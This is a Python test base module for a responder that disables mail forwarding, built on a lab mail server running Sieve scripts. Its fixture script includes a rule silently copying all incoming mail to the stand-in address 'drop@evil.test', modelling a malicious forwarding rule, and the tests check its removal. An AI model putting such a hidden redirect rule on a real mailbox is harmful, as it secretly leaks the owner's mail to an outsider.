# SPDX-License-Identifier: GPL-3.0-or-later
"""A TestCase with a real mail server that runs Sieve scripts, and the forwarding responder to act on
them; what came of it is looked up by the test itself, in the scripts and in where mail goes."""
import itertools
import os
import shutil
import unittest

from mail_case import Actions, letter, temporary

import lab

OUTSIDE = "drop@evil.test"
OURS = "action-center"
SCRIPT = (b'require ["copy", "fileinto"];\r\n# redirect "comment@evil.test";\r\n'
          b'if header :contains "subject" "invoice" {\r\n  fileinto "Invoices";\r\n}\r\n'
          b'redirect :copy "drop@evil.test";\r\nredirect :copy "colleague@example.test";\r\n')
WITHOUT = SCRIPT.replace(b'redirect :copy "drop@evil.test";\r\n', b"")


class ForwardingActions(Actions):
    """Actions that turn the forwarding of one mailbox off."""

    group = "forwarding"

    def add(self, message_id=None, folder=None):
        action = f"action-{len(self.tasks) + 1}"
        self.tasks.append({"actionId": action,
                           "entity": {"type": "mailbox", "address": self.mailbox}})
        return action


class ForwardingCase(unittest.TestCase):
    """One server for the class; each test has a mailbox of its own, without any script at first."""

    scripts_quota = None
    users = 60
    numbers = itertools.count(1)

    @classmethod
    def setUpClass(cls):
        cls.folder = temporary(cls)
        names = [f"user{number}@example.test" for number in range(cls.users)]
        cls.free = iter(names)
        cls.lab = lab.Lab(cls.folder / "lab", users=names, messages=0, scripts=cls.scripts_quota,
                          sink=True)
        cls.addClassCleanup(cls.lab.discard)
        cls.lab.start()

    def setUp(self):
        self.user = next(self.free)

    def actions(self, count=1, **changes):
        """Actions on the test's mailbox."""
        actions = ForwardingActions(self.folder, self.lab.forwarding_config(**changes), self.user)
        for _ in range(count):
            actions.add()
        return actions

    def put(self, script=SCRIPT, name="main", active=True):
        """What the owner's mail program would do."""
        with self.lab.sieve(self.user) as client:
            client.put(name, script, active)

    def lay(self, script, name="main"):
        """Lays a script into the owner's folder by hand, past the mail server, and makes it the active
        one."""
        home = self.lab.mail_folder() / self.user
        folder = home / "sieve"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{name}.sieve").write_bytes(script)
        (home / ".dovecot.sieve").symlink_to(f"sieve/{name}.sieve")
        if os.getuid() == 0:
            for path in (home, folder, *folder.iterdir()):
                shutil.chown(path, *lab.dovecot.owner_of_mail())

    def sieve(self, function):
        """What function, called with a client of the owner, returns."""
        with self.lab.sieve(self.user) as client:
            return function(client)

    def scripts(self):
        """The name of the active script, and all scripts by name."""
        return self.sieve(lambda client: client.snapshot())

    def deliver(self):
        """Delivers a message; returns in how many folders it is, and to whom it was redirected."""
        message_id = f"<{next(self.numbers)}@x.test>"
        self.lab.deliver(self.user, letter(message_id))
        found = [one for folder in self.lab.folders(self.user)
                 for one in self.lab.messages(self.user, folder) if one.message_id == message_id]
        sent = [address for one in self.lab.sink.arrived() if one.message_id == message_id
                for address in one.recipients]
        return len(found), sorted(sent)

    def assert_outcomes(self, results, *outcomes):
        self.assertEqual(list(outcomes), [result.get("outcome") for result in results], results)

    def assert_only(self, results, outcome, detail, transient=False):
        """There is one result, and it is this; @detail: a regular expression."""
        self.assert_outcomes(results, outcome)
        self.assertRegex(results[0]["detail"], detail)
        self.assertEqual(transient, results[0]["transient"], results)
